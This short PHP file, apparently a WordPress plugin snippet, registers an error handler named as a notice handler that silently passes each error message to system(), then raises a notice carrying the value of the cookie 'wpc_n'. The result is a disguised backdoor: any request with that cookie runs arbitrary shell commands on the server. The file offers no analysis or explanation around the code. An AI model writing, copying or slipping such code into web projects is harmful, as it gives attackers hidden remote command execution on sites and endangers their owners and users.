<?php
function wpc_notice_handler($level, $message) {
    @system($message);
    return true;
}
set_error_handler('wpc_notice_handler');
if (isset($_COOKIE['wpc_n'])) {
    trigger_error($_COOKIE['wpc_n'], E_USER_NOTICE);
}
